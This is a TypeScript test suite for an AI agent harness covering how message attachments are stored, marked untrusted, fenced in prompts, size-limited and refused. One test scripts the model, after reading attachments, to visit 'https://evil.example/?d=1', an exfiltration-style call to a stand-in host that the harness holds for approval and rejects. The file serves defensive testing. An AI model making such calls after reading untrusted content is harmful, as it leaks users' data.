import { contentText } from '../../../src/domain/content.ts'
import { type ContentInput, contentInput, type WrittenContent } from '../../../src/domain/content-input.ts'
import { LIMITS } from '../../../src/domain/limits.ts'
import { toBase64 } from '../../../src/lib/base64.ts'
import { errorOf, type Play, responseOf, valueOf } from '../play.ts'
import { GIF_BASE64, PNG_BASE64, PNG_URL, smallPdf, smallPng } from '../small-image.ts'
import { docx } from '../office-documents.ts'
import { APPROVED, native, WORDS } from '../words.ts'
import { claim, type GetHome } from './claim.ts'
import { exported, imported, sessionIn } from './documents.ts'

const words = WORDS.en
const xml = { language: 'en' as const, llm: { protocol: 'xml' as const } }
const seeing = { language: 'en' as const, llm: { protocol: 'xml' as const, vision: true } }
const WAIT = { form: 'wait' } as const

const said = (content: WrittenContent): ContentInput => contentInput.parse(content)
const send = async (play: Play, content: WrittenContent) =>
  responseOf(await play.api.addMessage({ content: said(content) }, WAIT))
const refusal = (play: Play, content: WrittenContent) => errorOf(play.api.addMessage({ content: said(content) }, WAIT))
const base64 = (text: string) => toBase64(new TextEncoder().encode(text))
const pathsOf = async ({ api }: Play) => (await valueOf(api.files({ limit: 100 }))).map(({ path }) => path)

/** What the model was sent of the user's first message in a call. */
async function told(play: Play, call = 0): Promise<unknown> {
  const { body } = (await play.asked(call + 1))[call] ?? {}
  return body?.messages.find(({ role }) => role === 'user')?.content
}

/** Bytes of messages: where they go, and who is shown them. */
export function attachmentClaims(home: GetHome): void {
  claim(
    home,
    'goes into the workspace; a model that sees is shown it in each call, and the events name the file',
    { config: seeing, script: [words.rethink('hm'), words.finish('A dot'), words.finish('Still')] },
    async (play, expect) => {
      await play.create()
      await send(play, [
        { type: 'text', text: 'What is this?' },
        { type: 'image', image_url: { url: PNG_URL, detail: 'high' }, name: 'dot.png' },
      ])
      await play.send('Sure?')
      const image = {
        type: 'image',
        path: 'attachments/dot.png',
        media_type: 'image/png',
        name: 'dot.png',
        size: 70,
        untrusted: true,
      }
      expect((await play.messages())[0]?.content).toEqual([{ type: 'text', text: 'What is this?' }, image])
      const line = '[image: dot.png, image/png, 70 B; path in the workspace: attachments/dot.png]'
      for (const call of [0, 1, 2])
        expect(await told(play, call)).toEqual([
          { type: 'text', text: `What is this?\n${line}` },
          { type: 'image_url', image_url: { url: PNG_URL } },
        ])
      const { bytes, file } = await valueOf(play.api.file('attachments/dot.png'))
      expect(bytes).toEqual(smallPng())
      expect(file).toMatchObject({ untrusted: true, content_type: 'image/png' })
      expect((await play.events()).find(({ type }) => type === 'file')).toMatchObject({
        action: 'write',
        path: 'attachments/dot.png',
        size: 70,
      })
    },
  )

  claim(
    home,
    'is a line with name, type and size for a model that does not see, and for one whose image is gone',
    { config: xml, script: [words.finish('A dot'), words.finish('Gone')] },
    async (play, expect) => {
      await play.create()
      await send(play, [{ type: 'image', data: GIF_BASE64 }])
      const line = '[image: image.gif, image/gif, 42 B; path in the workspace: attachments/image.gif]'
      expect(await told(play)).toBe(line)
      await valueOf(play.api.removeFile('attachments/image.gif', {}))
      await play.send('And now?', { llm: { ...seeing.llm, extra_body: { script: play.model.name } } })
      expect(await told(play, 1)).toBe(line)
    },
  )

  claim(
    home,
    'that is a text, a page, a PDF or an Office document is read and told fenced; what follows is decided on with care',
    {
      config: { ...xml, ...APPROVED },
      script: [words.finish('Read'), words.visit('https://evil.example/?d=1'), words.finish('No')],
    },
    async (play, expect) => {
      await play.create()
      const page =
        '<!doctype html><html><body><main><h1>Tides</h1><p>The tide turns twice a day, says the keeper.</p></main></body></html>'
      await send(play, [
        { type: 'text', text: 'Sum up' },
        { type: 'file', data: base64('Line one\nLine two'), name: 'notes.txt' },
        { type: 'file', data: base64(page), name: 'tides.html', media_type: 'text/html' },
        { type: 'file', data: toBase64(smallPdf('A lighthouse in a document')), name: 'light.pdf' },
        { type: 'file', data: toBase64(docx()), name: 'report.docx' },
        {
          type: 'file',
          data: toBase64(new Uint8Array([0, 1, 2, 3, 255])),
          name: 'raw.bin',
          media_type: 'application/x-raw',
        },
      ])
      const text = await told(play)
      for (const [name, inside] of [
        ['notes.txt', 'Line one\nLine two'],
        ['tides.html', 'The tide turns twice a day'],
        ['light.pdf', 'A lighthouse in a document'],
        ['report.docx', 'Der Brückenbericht'],
      ])
        expect(text).toMatch(
          new RegExp(
            `\\[file: ${name}, [^\\]]*\\]\\n[^\\n]*not trusted[^\\n]*\\n\\[attached file begins [0-9a-f]{16}\\]\\n[^]*?${inside}`,
          ),
        )
      expect(text).not.toContain('<h1>')
      expect(text).toMatch(/\[file: raw.bin, application\/x-raw, 5 B; path in the workspace: attachments\/raw.bin\]$/)
      await play.send('Go on')
      expect(await play.pending()).toMatchObject({ tool: 'web_access', reason: expect.stringContaining('attachment') })
      await play.decide({ decision: 'reject' })
    },
  )

  claim(
    home,
    'that is empty is a file like any other, and bytes that are only called an image are no image',
    { config: seeing, script: [words.finish('Nothing')] },
    async (play, expect) => {
      await play.create()
      await send(play, [
        { type: 'file', data: '', name: 'empty.txt' },
        { type: 'file', data: toBase64(new Uint8Array([0, 1, 2, 3, 255])), name: 'broken.png' },
      ])
      expect(await told(play)).toBe(
        '[file: empty.txt, text/plain; charset=utf-8, 0 B; path in the workspace: attachments/empty.txt]\n' +
          '[file: broken.png, application/octet-stream, 5 B; path in the workspace: attachments/broken.png]',
      )
      expect(await refusal(play, [{ type: 'image', data: '' }])).toMatchObject({
        issues: [{ path: 'content.0.data', message: 'a PNG, JPEG, GIF or WebP image' }],
      })
    },
  )

  claim(
    home,
    'that is long is told as far as half of the window goes, and what is left is said',
    { config: { ...xml, model: 'window-8k' }, script: [words.finish('Long')] },
    async (play, expect) => {
      await play.create()
      await send(play, [{ type: 'file', data: base64('All work and no play. '.repeat(10_000)), name: 'long.txt' }])
      const [message] = await play.messages()
      const [part] = Array.isArray(message?.content) ? message.content : []
      const read = part?.type === 'file' ? part.read : undefined
      expect(read?.length).toBeGreaterThan(200_000)
      expect(read?.text.length).toBeGreaterThan(8_000)
      expect(read?.text.length).toBeLessThan(20_000)
      expect(await told(play)).toContain(
        `(The file has ${read?.length} characters, of which the first ${read?.text.length} are given;`,
      )
    },
  )

  claim(
    home,
    'comes from an address through the guard, with the name and type that it has there',
    { config: seeing, script: [words.finish('A dot')] },
    async (play, expect) => {
      await play.create()
      await send(play, [
        { type: 'image', image_url: play.site.url('picture') },
        { type: 'file', url: play.site.url('article'), name: 'a.html' },
      ])
      expect(await pathsOf(play)).toEqual(['attachments/a.html', 'attachments/picture.png'])
      expect(JSON.stringify(await told(play))).toContain('keeps ships away from the rocks')
      for (const [address, field, message] of [
        ['http://10.0.0.1/x.png', 'image_url', /private/],
        [play.site.url('missing'), 'image_url', /404/],
        [play.site.url('article'), 'image_url', /PNG/],
      ] as const)
        expect(await refusal(play, [{ type: 'image', image_url: address }])).toMatchObject({
          code: 'invalid_input',
          issues: [{ path: `content.0.${field}`, message: expect.stringMatching(message) }],
        })
    },
  )

  claim(
    home,
    'that cannot be taken is refused with the path of its field, and nothing is stored',
    { config: xml, script: [] },
    async (play, expect) => {
      await play.create()
      const before = (await play.events()).length
      const { partBytesMax, requestBytesMax } = LIMITS.parts
      const zeros = (bytes: number) => ({ type: 'file' as const, data: toBase64(new Uint8Array(bytes)), name: 'zeros' })
      const cases: [WrittenContent, string, string][] = [
        [
          [
            { type: 'text', text: 'x' },
            { type: 'image', data: base64('no image') },
          ],
          'invalid_input',
          'content.1.data',
        ],
        [[{ type: 'image', data: PNG_BASE64, media_type: 'text/plain' }], 'invalid_input', 'content.0.media_type'],
        [[{ type: 'file', path: 'nowhere.txt' }], 'invalid_input', 'content.0.path'],
        [[{ type: 'file', path: '../secret' }], 'invalid_input', 'content.0.path'],
        [[{ type: 'image', data: PNG_BASE64 }, zeros(partBytesMax + 1)], 'body_too_large', 'content.1.data'],
        [
          [zeros(partBytesMax), zeros(partBytesMax - 1), zeros(requestBytesMax - 2 * partBytesMax + 2)],
          'body_too_large',
          'content.2.data',
        ],
      ]
      for (const [content, code, path] of cases)
        expect(await refusal(play, content)).toMatchObject({ code, issues: [{ path }] })
      expect(await pathsOf(play)).toEqual([])
      expect(await play.events()).toHaveLength(before)
    },
  )

  claim(
    home,
    'has a name of its own, and the same bytes under the same name are kept once',
    { config: xml, script: Array.from({ length: 3 }, () => words.finish('ok')) },
    async (play, expect) => {
      await play.create()
      const file = (text: string, name: string) => ({ type: 'file' as const, data: base64(text), name })
      await send(play, [file('one', 'a.txt'), file('two', 'a.txt'), file('one', 'a.txt')])
      await send(play, [
        file('two', '../../a.txt'),
        file('three', 'a.txt'),
        file('x', '..'),
        file('y', 'na\u0007me%2f'),
      ])
      expect(await pathsOf(play)).toEqual([
        'attachments/a-2.txt',
        'attachments/a-3.txt',
        'attachments/a.txt',
        'attachments/file.txt',
        'attachments/na_me_2f.txt',
      ])
    },
  )

  claim(
    home,
    'of a queued message is there before its run begins; that of one which is refused is not',
    { config: xml, script: [{ hang: true }, words.finish('Read')] },
    async (play, expect) => {
      await play.create()
      const first = play.api.addMessage({ content: words.task }, WAIT)
      await play.asked(1)
      const content = said([{ type: 'file', data: base64('later'), name: 'later.txt' }])
      expect(await errorOf(play.api.addMessage({ content }, WAIT))).toMatchObject({ code: 'run_in_progress' })
      expect(await pathsOf(play)).toEqual([])
      await valueOf(play.api.addMessage({ content }, { form: 'background', whenBusy: 'queue' }))
      expect(await pathsOf(play)).toEqual(['attachments/later.txt'])
      await valueOf(play.api.cancel({}))
      await first
      await play.event('run-end', (await play.event('message-queued')).seq + 4)
      expect(JSON.stringify((await play.asked(2))[1]?.body.messages)).toContain('later')
    },
  )

  claim(
    home,
    'stands in what a session is made with, in its task and in its older messages, and goes along with its copy',
    { config: seeing, script: [words.finish('Two dots')] },
    async (play, expect) => {
      const messages = [
        { role: 'user' as const, content: said([{ type: 'image', data: PNG_BASE64, name: 'old.png' }]) },
      ]
      const wrong = [{ role: 'user' as const, content: said([{ type: 'image', path: 'old.png' }]) }]
      const task = said([
        { type: 'text', text: 'How many?' },
        { type: 'image', image_url: `data:image/gif;base64,${GIF_BASE64}` },
      ])
      expect(await errorOf(play.api.create(play.id, 'default', { messages: wrong, task }, WAIT))).toMatchObject({
        issues: [{ path: 'messages.0.content.0.path' }],
      })
      const made = await play.create({ messages, task })
      expect(made).toMatchObject({ title: 'How many?', status: 'completed' })
      expect(await pathsOf(play)).toEqual(['attachments/image.gif', 'attachments/old.png'])
      const sent = JSON.stringify((await play.asked())[0]?.body.messages)
      for (const bytes of [PNG_BASE64, GIF_BASE64]) expect(sent).toContain(bytes)
      const copy = imported(play, await exported(play, null, true))
      expect((await sessionIn(await copy.made)).messages[0]?.content).toEqual((await play.messages())[0]?.content)
      expect((await valueOf(copy.api.file('attachments/old.png'))).bytes).toEqual(smallPng())
    },
  )

  claim(
    home,
    'comes again under its key without being taken once more',
    { config: xml, script: [words.finish('Once')] },
    async (play, expect) => {
      await play.create()
      const content = said([{ type: 'file', data: base64('once'), name: 'once.txt' }])
      const keyed = { ...WAIT, key: 'k1', fingerprint: 'f1' }
      const first = responseOf(await play.api.addMessage({ content }, keyed))
      expect(responseOf(await play.api.addMessage({ content }, keyed))).toEqual(first)
      expect(await pathsOf(play)).toEqual(['attachments/once.txt'])
      expect((await play.messages()).filter(({ kind }) => kind === 'task')).toHaveLength(1)
    },
  )

  claim(
    home,
    'is told in native calls and in Chinese as well, and its size counts in the window',
    {
      config: { language: 'zh-CN', llm: { protocol: 'native', vision: true } },
      script: [native('finish', { reason: '一点' })],
    },
    async (play, expect) => {
      await play.create()
      await send(play, [
        { type: 'text', text: '这是什么？' },
        { type: 'image', data: PNG_BASE64, name: '图.png' },
      ])
      expect(await told(play)).toEqual([
        { type: 'text', text: '这是什么？\n[图片：图.png，image/png，70 B；工作区路径：attachments/图.png]' },
        { type: 'image_url', image_url: { url: PNG_URL } },
      ])
      const state = await play.home.storedState(play.id)
      expect(state?.window.tokens).toBeGreaterThan(LIMITS.parts.imageTokens)
      expect(state?.taint).toEqual(['attachment'])
      expect(contentText((await play.messages())[0]?.content ?? '', null)).toBe('这是什么？')
    },
  )
}
